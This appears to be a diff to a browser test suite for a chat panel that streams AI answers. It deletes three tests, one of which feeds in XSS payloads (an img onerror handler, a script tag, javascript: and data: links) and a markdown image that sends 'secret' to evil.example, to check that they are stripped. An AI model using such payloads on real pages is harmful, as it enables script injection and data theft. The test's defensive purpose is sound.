@@ -36,27 +36,6 @@ test.each(LANGUAGES)(
   },
 );
 
-test('bold is bold in Chinese and Japanese, whole while it streams', async () => {
-  const chat = await openChat({ language: 'zh' });
-  const answer = dictated();
-  chat.provider.answerWith(answer.answer);
-  await chat.send('one');
-  answer.say('これは**「重要」');
-  await expect.element(chat.last.css('strong')).toHaveTextContent('「重要」');
-  answer.say('**です。这是**“重点”**内容。');
-  answer.finish();
-  await chat.idle();
-  await expect
-    .poll(() =>
-      chat.last
-        .css('strong')
-        .elements()
-        .map((part) => part.textContent),
-    )
-    .toEqual(['「重要」', '“重点”']);
-  await expect.element(chat.last).not.toHaveTextContent('*');
-});
-
 test('the log follows the newest text; a reader who scrolled up stays, and a button or a send leads back down', async () => {
   const chat = await openChat();
   const answer = dictated();
@@ -115,28 +94,6 @@ test('an answer that stood whole before the panel is opened again is read from i
   streaming.say('And more.');
   await expect.element(chat.last).toHaveTextContent('And more.');
   await followsNewest(chat);
-});
-
-test('no HTML, no image, no dangerous link comes out of an answer', async () => {
-  const chat = await openChat();
-  chat.provider.answerWith(
-    words(
-      '<img src=x onerror="window.hacked=1"> <script>window.hacked=1</script>\n\n',
-      '![x](https://evil.example/?q=secret) [a](javascript:window.hacked=1) [b](//evil.example) [c](data:text/html,x)\n\n',
-      '[ok](https://example.com/a) [mail](mailto:a@example.com) [here](#skills)',
-    ),
-  );
-  await chat.send('one');
-  await chat.idle();
-  const links = chat.last.getByRole('link');
-  await expectCount(links, 3);
-  await expectCount(chat.last.css('strong, img, script'), 0);
-  await expect.element(links.nth(0)).toHaveAttribute('href', 'https://example.com/a');
-  await expect.element(links.nth(0)).toHaveAttribute('rel', 'noopener noreferrer');
-  await expect.element(links.nth(0)).toHaveAttribute('target', '_blank');
-  await expect.element(links.nth(1)).toHaveAttribute('href', 'mailto:a@example.com');
-  await expect.element(links.nth(2)).toHaveAttribute('href', '#skills');
-  expect('hacked' in window).toBe(false);
 });
 
 test('no line of an answer begins with the stop after a link, or ends with the bracket before it', async () => {
@@ -202,14 +159,5 @@ describe('assistive technology', () => {
     answer.finish();
     await expect.element(heard).toHaveTextContent('New answer: Some bold words.');
     await expect.element(chat.log).toHaveAttribute('aria-busy', 'false');
-  });
-
-  test('hears that a send was refused', async () => {
-    const chat = await openChat();
-    await pass(15 * 60_000 + 1_000);
-    await chat.send('two');
-    await expect
-      .element(chat.panel.getByRole('status'))
-      .toHaveTextContent('⚠️ Session time has exceeded 15 minutes limit');
   });
 });
